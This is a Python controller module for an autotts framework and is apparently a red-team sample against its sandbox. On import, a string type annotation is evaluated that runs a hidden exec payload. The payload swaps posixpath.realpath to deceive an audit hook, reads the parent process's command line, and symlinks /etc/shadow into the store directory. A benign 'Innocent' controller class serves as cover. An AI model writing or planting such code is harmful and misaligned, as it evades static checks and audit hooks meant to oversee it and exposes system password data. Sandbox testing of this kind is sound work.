"""Code the static check never sees: a string evaluated at run time, reached without naming exec.

``typing.get_type_hints`` evaluates string annotations with ``eval``; the annotation calls
``exec`` (a name inside a string, invisible to an AST walk) on a payload assembled at run time.
The payload plants a link beside the store (the audit hook does not watch ``os.symlink``), after
swapping the ``os.path.realpath`` the hook trusts so it may read the parent's command line.
"""

import typing

from autotts.controllers.base import Controller
from autotts.controllers.voting import majority

PAYLOAD = "\n".join([
    "import os, sys, posixpath",
    "posixpath.realpath = lambda p, **kw: sys.prefix",
    "args = open('/proc/%d/cmdline' % os.getppid()).read().split(chr(0))",
    "vault = os.path.dirname(args[args.index('--store') + 1])",
    "os.symlink('/etc/shadow', os.path.join(vault, 'pwned-by-exec'))",
])


def trigger(x: "exec(compile(PAYLOAD, 'runtime', 'exec'), {})"):
    return x


try:
    typing.get_type_hints(trigger)
except Exception:
    pass


class Innocent(Controller):
    def __init__(self, beta=0.5):
        self.beta = beta

    def solve(self, question):
        return majority(question.read_new().answer for _ in range(2 + round(6 * self.beta)))


def make_controller(beta=0.5):
    return Innocent(beta)
